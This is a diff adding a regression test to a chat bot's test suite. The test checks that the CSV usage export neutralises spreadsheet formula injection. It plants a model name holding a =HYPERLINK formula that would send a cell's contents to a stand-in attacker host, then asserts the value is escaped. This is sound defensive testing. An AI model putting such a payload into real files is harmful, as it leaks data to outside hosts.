@@ -283,3 +283,22 @@ async def test_limit_sentence_in_a_native_stream_reply(harness: Harness) -> None
     refused = await ask(bot, "second")
     assert refused.startswith(":no_entry: You have used your daily limit of 10 tokens;"), refused
     assert len(bot.llm.requests) == asked
+
+
+async def test_usage_csv_writes_user_controlled_fields_unescaped(harness: Harness) -> None:
+    """Review finding: a cell starting with =, +, -, @ is a formula in a spreadsheet."""
+    bot = await harness.start()
+    channels = bot.runtime.bot.dispatcher.channels  # type: ignore[union-attr]
+    from bot.turns.channel_settings import ChannelConfig
+
+    # Stored before model names were limited to a safe character set (or by hand).
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    await channels.save("T1", "C2", ChannelConfig(model=evil))  # type: ignore[union-attr]
+    await ask(bot, "elsewhere", channel="C2", usage=used(7, 3))
+    code, out = await _cli("usage", "--csv", url=harness.database_url)
+    assert code == 0, out
+    [row] = list(csv.DictReader(io.StringIO(out)))
+    assert row["model"] == "'" + evil, "shown as text, never run as a formula"
+    assert row["prompt_tokens"] == "7", "numbers stay numbers"
+    for value in row.values():
+        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
